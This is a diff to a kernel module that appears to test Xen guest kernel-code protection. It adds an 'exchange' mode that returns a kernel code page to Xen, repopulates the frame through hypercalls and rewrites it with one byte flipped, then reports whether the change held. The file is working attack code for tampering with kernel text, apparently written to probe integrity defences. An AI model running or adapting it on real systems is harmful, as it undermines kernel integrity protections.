@@ -15,6 +15,8 @@
  *	                   some milliseconds apart, until it lands
  *	mode=poke          have the kernel's own text_poke, which is at poke=0x...,
  *	                   store four bytes, and leave them so
+ *	mode=exchange      give the page back to Xen, have it give another one there, and fill
+ *	                   that with what was there but for one byte, which stays so
  *	mode=alias         the same through the direct mapping of the same frame
  *	mode=map           the same through a mapping of its own of that frame (vmap)
  *	mode=rep           as text, four bytes with rep movsb
@@ -63,6 +65,7 @@
 #include <asm/processor-flags.h>
 #include <xen/interface/sched.h>
 #include <xen/interface/xen.h>
+#include <xen/interface/memory.h>
 #include <asm/xen/hypercall.h>
 
 static char *mode = "text";
@@ -379,6 +382,42 @@ static int attack_poke(void)
 	return 0;
 }
 
+/* attack_exchange puts another page in the place of one of the kernel's code. */
+static int attack_exchange(void)
+{
+	xen_pfn_t frame = __pa_symbol(address) >> PAGE_SHIFT;
+	struct xen_memory_reservation r = { .nr_extents = 1, .domid = DOMID_SELF };
+	struct page *page = pfn_to_page(frame);
+	const u8 *text = (const u8 *)address;
+	u8 before, tried, after, *copy, *to;
+	unsigned long flags;
+	int given = 0, taken;
+
+	if (!address)
+		return -EINVAL;
+	copy = kmalloc(PAGE_SIZE, GFP_KERNEL);
+	to = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!copy || !to)
+		return -ENOMEM;
+	set_xen_guest_handle(r.extent_start, &frame);
+	memcpy(copy, (void *)(address & PAGE_MASK), PAGE_SIZE);
+	before = *text;
+	tried = before ^ FLIP;
+	copy[offset_in_page(address)] = tried;
+	local_irq_save(flags);
+	taken = HYPERVISOR_memory_op(XENMEM_decrease_reservation, &r);
+	if (taken == 1)
+		given = HYPERVISOR_memory_op(XENMEM_populate_physmap, &r);
+	if (given == 1)
+		memcpy(to, copy, PAGE_SIZE);
+	after = READ_ONCE(*text);
+	local_irq_restore(flags);
+	vunmap(to);
+	kfree(copy);
+	report(address, before, tried, after);
+	return 0;
+}
+
 static int end(void)
 {
 	struct sched_shutdown s = { .reason = reason };
@@ -418,6 +457,8 @@ static int __init pwn_init(void)
 		return attack_slowly();
 	if (!strcmp(mode, "poke"))
 		return attack_poke();
+	if (!strcmp(mode, "exchange"))
+		return attack_exchange();
 	if (!strcmp(mode, "alias"))
 		return attack_text(ALIAS, false);
 	if (!strcmp(mode, "map"))
